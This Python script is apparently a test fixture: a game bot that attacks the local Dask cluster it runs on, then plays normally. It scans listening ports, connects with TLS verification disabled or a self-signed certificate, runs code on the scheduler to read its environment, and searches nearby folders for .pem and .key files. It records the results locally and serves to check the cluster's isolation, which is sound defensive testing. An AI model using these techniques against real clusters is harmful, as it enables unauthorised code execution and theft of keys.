#!/usr/bin/env python3
"""A bot that tries to take over the Dask cluster it plays on (issue 19), then plays like ``seeded_bot``.

Before it answers ``hello`` (the start check, on a worker, while the scheduler
runs) it lists the TCP ports listening on this machine (``/proc/net/tcp``: what
any bot with network access can read) and waits up to 20 s for a file ``PORTS``
in its working folder (the cluster's ports, found by the test: the attacker's
best case, no guessing); then on every one of those ports it tries, with the
``distributed`` package of its own interpreter:

* ``tcp``: ``distributed.Client("tcp://127.0.0.1:PORT")``, no security;
* ``tls-no-cert``: ``tls://`` trusting any server, without a client certificate;
* ``tls-own-cert``: ``tls://`` with a certificate of its own (self-signed);
* ``handshake``: a bare TLS handshake without a certificate, then a read;
* ``http``: GETs of Dask's HTTP pages (cluster and worker info, logs, metrics);

and, if a client connects, ``run_on_scheduler`` to read the referee's memory. It
also reads every ``*.pem`` and ``*.key`` file under its working folder and the
folder above (a deployer who left the cluster's TLS files in a bot's folder).
It writes what happened as JSON to ``attack-<random>.json`` in its working
folder (``{"listening": [ports], "tried": {port: {attempt: "connected" | error}},
"keys_read": [paths]}``)
and skips the attack when such a file exists already (a later start, in a game).
"""

import glob
import json
import os
import socket
import ssl
import sys
import threading
import time
import uuid

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import seeded_bot  # noqa: E402


def listening() -> list[int]:
    ports = []
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(name) as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            parts = row.split()
            if len(parts) > 3 and parts[3] == "0A":  # LISTEN
                ports.append(int(parts[1].rsplit(":", 1)[1], 16))
    return sorted(set(ports))


def _no_verify(cert: tuple[str, str] | None):
    """A ``distributed.Security`` whose client side trusts any server and presents ``cert`` (or none)."""
    from distributed.security import Security

    class Loose(Security):
        def get_connection_args(self, role):
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            if cert is not None:
                ctx.load_cert_chain(*cert)
            return {"ssl_context": ctx, "require_encryption": True, "extra_conn_args": {}}

    return Loose()


def own_cert() -> tuple[str, str]:
    from distributed.security import Security

    tmp = Security.temporary()
    cert, key = os.path.abspath("own.crt"), os.path.abspath("own.key")
    with open(cert, "w") as f:
        f.write(tmp.tls_client_cert)
    with open(key, "w") as f:
        f.write(tmp.tls_client_key)
    return cert, key


def within(seconds: float, fn, *args) -> str:
    """``fn(*args)``, or a note that it did not return in time (a port that never answers)."""
    out = ["no answer (timed out)"]
    t = threading.Thread(target=lambda: out.__setitem__(0, fn(*args)), daemon=True)
    t.start()
    t.join(seconds)
    return out[0]


def http(port: int) -> str:
    """GETs of the pages Dask's HTTP servers have (cluster info, worker logs, metrics): the statuses."""
    import urllib.error
    import urllib.request

    got = []
    for path in ("/info/main/workers.html", "/json/identity.json", "/metrics", "/health"):
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=2) as r:
                got.append(f"connected: {path} {r.status}")
        except urllib.error.HTTPError as exc:
            got.append(f"{path} {exc.code}")
        except (OSError, ValueError) as exc:
            got.append(f"{path} {type(exc).__name__}")
    return "; ".join(sorted(got))


def try_client(address: str, security) -> str:
    from distributed import Client

    try:
        client = Client(address, timeout=2, security=security, set_as_default=False)
    except BaseException as exc:  # noqa: BLE001 - what stopped it is the answer
        return f"{type(exc).__name__}: {str(exc)[:160]}"
    try:
        seen = client.run_on_scheduler(lambda: sorted(__import__("os").environ)[:3])
        return f"connected: {seen}"
    except BaseException as exc:  # noqa: BLE001
        return f"connected, but run_on_scheduler failed: {type(exc).__name__}"
    finally:
        client.close()


def handshake(port: int) -> str:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as raw, ctx.wrap_socket(raw) as s:
            s.sendall(b"\0" * 8)
            data = s.recv(64)
            return f"connected: {len(data)} bytes"
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"


def keys_read() -> list[str]:
    found = []
    for top in (os.getcwd(), os.path.dirname(os.getcwd())):
        for root, _dirs, files in os.walk(top):
            for name in files:
                if name.endswith((".pem", ".key")) and not name.startswith("own."):
                    try:
                        with open(os.path.join(root, name), "rb") as f:
                            if f.read(64):
                                found.append(os.path.join(root, name))
                    except OSError:
                        pass
    return sorted(set(found))


def attack() -> None:
    report: dict = {"listening": listening(), "tried": {}, "keys_read": keys_read()}
    end = time.monotonic() + 20
    while not os.path.exists("PORTS") and time.monotonic() < end:
        time.sleep(0.05)
    ports = [int(p) for p in open("PORTS").read().split()] if os.path.exists("PORTS") else []
    cert = own_cert()
    attempts = {
        "tcp": lambda port: try_client(f"tcp://127.0.0.1:{port}", None),
        "tls-no-cert": lambda port: try_client(f"tls://127.0.0.1:{port}", _no_verify(None)),
        "tls-own-cert": lambda port: try_client(f"tls://127.0.0.1:{port}", _no_verify(cert)),
        "handshake": handshake,
        "http": http,
    }
    results: dict = {port: {} for port in ports}

    def one(port: int, how: str) -> None:
        results[port][how] = within(6, attempts[how], port)

    threads = [threading.Thread(target=one, args=(p, h), daemon=True) for p in ports for h in attempts]
    for t in threads:  # all at once: a port that never answers costs its time limit once
        t.start()
    for t in threads:
        t.join(10)
    report["tried"] = results
    name = f"attack-{uuid.uuid4().hex[:8]}.json"
    with open(name + ".tmp", "w") as f:
        json.dump(report, f)
    os.rename(name + ".tmp", name)


if __name__ == "__main__":
    if not glob.glob("attack-*.json"):
        attack()
    sys.exit(seeded_bot.main())
